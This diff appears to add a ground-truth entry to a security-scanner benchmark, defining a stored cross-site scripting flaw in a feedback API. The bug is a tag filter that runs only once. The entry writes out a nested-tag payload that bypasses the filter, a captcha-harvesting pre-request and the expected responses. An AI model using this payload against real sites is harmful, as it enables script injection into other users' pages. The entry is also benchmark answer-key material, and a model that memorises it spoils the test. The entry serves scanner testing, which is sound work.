@@ -1,0 +1,34 @@
+import { defineFlaws } from '#game/ground-truth/define-flaws.ts'
+
+export default defineFlaws({
+  flaws: [
+    {
+      id: 'F082',
+      title: 'The filter for feedback removes tags once, and what remains is a tag',
+      cvss: 'AV:N/AC:L/AT:N/PR:N/UI:P/VC:L/VI:L/VA:N/SC:L/SI:L/SA:N',
+      route: 'POST /api/Feedbacks',
+      parameter: 'comment',
+      parameterIn: 'body',
+      evidence: ['DAST', 'SAST'],
+      isExpectedOfScanners: true,
+      shows: {
+        method: 'POST',
+        path: '/api/Feedbacks/',
+        body: '{"captchaId": {{captchaId}}, "captcha": "{{answer}}", "comment": "<<script>anything</script>iframe src=\\"javascript:alert(`xss`)\\">", "rating": 2}',
+        before: [{ path: '/rest/captcha/', takes: { captchaId: '"captchaId":(\\d+)', answer: '"answer":"([^"]+)"' } }],
+        status: 201,
+        has: ['<iframe src'],
+        page: '/#/about',
+        provenByExploit: true,
+      },
+      mustNot: {
+        method: 'POST',
+        path: '/api/Feedbacks/',
+        body: '{"captchaId": {{captchaId}}, "captcha": "{{answer}}", "comment": "<iframe src=\\"javascript:alert(`xss`)\\">", "rating": 2}',
+        before: [{ path: '/rest/captcha/', takes: { captchaId: '"captchaId":(\\d+)', answer: '"answer":"([^"]+)"' } }],
+        status: 201,
+        lacks: ['<iframe'],
+      },
+    },
+  ],
+})
